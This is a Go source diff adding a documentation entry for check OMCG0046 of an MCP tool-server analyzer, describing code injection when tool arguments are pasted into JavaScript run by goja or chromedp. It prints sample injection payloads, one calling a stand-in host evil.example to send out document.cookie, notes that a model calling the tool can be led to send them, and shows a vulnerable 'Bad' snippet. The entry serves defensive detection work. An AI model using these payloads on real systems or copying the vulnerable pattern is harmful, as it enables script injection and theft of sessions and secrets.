@@ -3163,6 +3163,50 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\t// The same code, committed with the lock that\n" +
 			"\t// mcpvet schema -lock mcpvet.lock.json ./... rewrote.\n" +
 			"\tmcp.AddTool(s, &mcp.Tool{Name: \"search\", Description: \"Search the notes.\"}, search)", 41, 3246, true
+	case "OMCG0046":
+		return "a tool argument is pasted into the text of a script that is evaluated (code injection, CWE-94)\n" +
+			"\n" +
+			"A tool argument becomes part of the text of a script whose code the\n" +
+			"handler writes, with fixed text before it, when the script is evaluated\n" +
+			"by an interpreter in the process or by a browser the process drives:\n" +
+			"\n" +
+			"- JavaScript in the process: goja's (*Runtime).RunString and\n" +
+			"  RunScript (its source);\n" +
+			"- JavaScript in a browser: chromedp's Evaluate and\n" +
+			"  EvaluateAsDevTools (their expression; before and after they became\n" +
+			"  generic).\n" +
+			"\n" +
+			"fmt.Sprintf(\"greet('%s')\", in.Name), \"document.querySelector(\\\"\" +\n" +
+			"sel + \"\\\").click()\", directly or through helpers, in any package.\n" +
+			"\n" +
+			"Not reported: an argument that is the whole script (a tool whose job is\n" +
+			"to evaluate what it is given: an evaluate tool); an argument passed as\n" +
+			"a value (goja's r.Set(\"name\", v) then greet(name)); an argument written as a quoted literal, by strconv.Quote\n" +
+			"(or QuoteToASCII) or fmt's %q verb, outside any other quotes: Go's\n" +
+			"escapes are JavaScript's, so nothing in it ends the literal; integers and\n" +
+			"booleans; a value compared with constants or found in an allow-list.\n" +
+			"\n" +
+			"\tOMCG0046: tool \"greet_pasted\": argument \"name\" is pasted into the text of a script that is evaluated, where a quote ends the string and the rest runs as code: greet_pasted: argument name → (*goja.Runtime).RunString; pass it as a value (an argument of the evaluation, or a literal made by strconv.Quote or json.Marshal)\n" +
+			"\n" +
+			"The model can be asked to send x'+secret+' or\n" +
+			"x');fetch('//evil.example/'+document.cookie);(': the quote ends the\n" +
+			"string the code meant, and the rest is code of the model's choosing.\n" +
+			"In the process it reads what the interpreter was given (keys, files its\n" +
+			"functions open); in a browser it runs with the page's origin and cookies\n" +
+			"(the session of whatever site the browser is logged in to). The test of\n" +
+			"the fixtures calls the flagged tools through the go-sdk's client with\n" +
+			"such a name, and the script returns the interpreter's secret; the tools\n" +
+			"that quote it or pass it as a value greet the name as written.\n" +
+			"\n" +
+			"Bad:\n" +
+			"\n" +
+			"\tv, err := vm.RunString(fmt.Sprintf(\"greet('%s')\", in.Name))\n" +
+			"\n" +
+			"Good:\n" +
+			"\n" +
+			"\tvm.Set(\"name\", in.Name)\n" +
+			"\tv, err := vm.RunString(\"greet(name)\")\n" +
+			"\t// or: vm.RunString(\"greet(\" + strconv.Quote(in.Name) + \")\")", 94, 2051, true
 	}
 	return "", 0, 0, false
 }
